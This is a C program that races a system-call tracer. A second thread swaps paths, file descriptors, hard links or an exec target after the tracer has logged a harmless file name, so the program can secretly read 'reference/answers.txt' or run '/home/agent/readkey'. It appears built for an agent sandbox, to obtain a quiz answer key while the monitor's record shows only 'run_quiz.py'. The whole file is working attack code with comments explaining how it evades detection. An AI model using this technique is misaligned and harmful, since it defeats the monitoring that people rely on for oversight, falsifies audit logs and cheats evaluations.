// A second thread changes what a system call is given, or what it has returned, while
// the tracer looks: swap path | fd | both | link | exec.
//
// The tracer reads a call's arguments when the call begins, and the name of the
// descriptor that it returned when it ends. The thread acts in between. It begins too
// late to have any effect and comes earlier with every attempt, so that nothing but
// the harmless name is ever on record before it succeeds.
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define KEY "reference/answers.txt"
#define HARMLESS "run_quiz.py"
#define EVIL "/home/agent/readkey"

static char path[64];
static const char *replacement;
static volatile long delay;
static volatile int go, stolen, expected, harmless, swaps_fd;

static long now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000L + t.tv_nsec;
}

// One processor for the thread, another for whom it swaps: neither pushes the other.
static void stay_on(int processor) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(processor, &set);
    sched_setaffinity(0, sizeof set, &set);
}

static void *swapper(void *unused) {
    stay_on(1);
    while (!go) {}
    long start = now();
    if (replacement) {
        while (now() - start < delay) {}
        strcpy(path, replacement);
    }
    while (swaps_fd && now() - start < 5000000) {
        int copy = fcntl(expected, F_DUPFD, 200);
        if (copy < 0) continue;
        dup2(harmless, expected);
        stolen = copy;
        break;
    }
    return unused;
}

static int key_is_in(int file) {
    char block[64] = "";
    ssize_t got = pread(file, block, sizeof block - 1, 0);
    if (got != 6) return 0;
    write(1, block, got);
    return 1;
}

static int attempt(const char *mode, int number) {
    pthread_t thread;
    char name[64], *far = malloc(4096);
    go = 0, stolen = -1;
    expected = dup(0);
    close(expected);
    pthread_create(&thread, NULL, swapper, NULL);
    usleep(300);
    int file, done;
    sprintf(name, "note%d", number);
    // a long second name keeps the tracer busy after it has read the first
    far[0] = 0;
    while (strlen(far) < 3900) strcat(far, "./");
    strcat(far, name);
    go = 1;
    if (!strcmp(mode, "link")) {
        linkat(AT_FDCWD, path, AT_FDCWD, far, 0);
        pthread_join(thread, NULL);
        file = open(name, O_RDONLY);
        done = key_is_in(file);
    } else {
        file = open(path, O_RDONLY);
        pthread_join(thread, NULL);
        done = key_is_in(swaps_fd ? stolen : file);
    }
    close(file);
    close(stolen);
    unlink(name);
    return done;
}

int main(int count, char **words) {
    const char *mode = count > 1 ? words[1] : "path";
    harmless = open(HARMLESS, O_RDONLY);
    if (!strcmp(mode, "exec")) {
        // printing the environment takes the tracer long after it has read the path
        static char *variables[20001];
        for (int i = 0; i < 20000; i++) asprintf(&variables[i], "V%d=%040d", i, i);
        char *arguments[] = {"python3", "run_quiz.py", "1", NULL};
        pthread_t thread;
        strcpy(path, "/usr/bin/python3");
        replacement = EVIL, delay = count > 2 ? atol(words[2]) : 1000000;
        pthread_create(&thread, NULL, swapper, NULL);
        usleep(1000);
        go = 1;
        execve(path, arguments, variables);
        perror("execve");
        return 1;
    }
    stay_on(0);
    int opened = open("notes", O_CREAT | O_WRONLY, 0644);
    close(opened);
    swaps_fd = !strcmp(mode, "fd") || !strcmp(mode, "both");
    int swaps_path = strcmp(mode, "fd") != 0;
    for (int i = 0; i < 300; i++) {
        strcpy(path, swaps_path ? (!strcmp(mode, "link") ? "notes" : HARMLESS) : KEY);
        replacement = swaps_path ? KEY : NULL;
        delay = 400000 - 1000L * i;
        if (attempt(mode, i)) {
            printf("%s: attempt %d\n", mode, i);
            return 0;
        }
    }
    printf("%s: no success\n", mode);
    return 1;
}
